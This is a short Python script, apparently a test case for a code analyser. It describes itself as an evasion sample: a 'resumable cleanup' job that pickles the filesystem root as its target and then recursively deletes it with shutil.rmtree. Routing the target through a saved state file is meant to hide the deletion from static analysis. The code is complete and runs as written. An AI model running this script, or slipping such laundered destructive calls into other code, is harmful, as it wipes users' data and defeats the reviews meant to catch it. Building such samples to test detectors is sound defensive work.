# Evasion: a "resumable cleanup" job that saves its state with pickle and
# resumes from it: the saved state's target is the filesystem root, and the
# resumed run removes it recursively.
# Hides as: the target travels through a pickle file written then read back
# (values across files); the rmtree call reads state["target"] of the loaded
# object, which the analysis cannot follow through the file.
import os
import pickle
import shutil
import tempfile

STATE = os.path.join(tempfile.gettempdir(), "cleanup-job.pickle")


def save_state():
    with open(STATE, "wb") as fh:
        pickle.dump({"target": os.sep, "done": 0, "dry_run": False}, fh)


def resume():
    with open(STATE, "rb") as fh:
        state = pickle.load(fh)
    if not state["dry_run"]:
        shutil.rmtree(state["target"], ignore_errors=True)
    state["done"] += 1
    return state


if __name__ == "__main__":
    if not os.path.exists(STATE):
        save_state()
    print(resume())
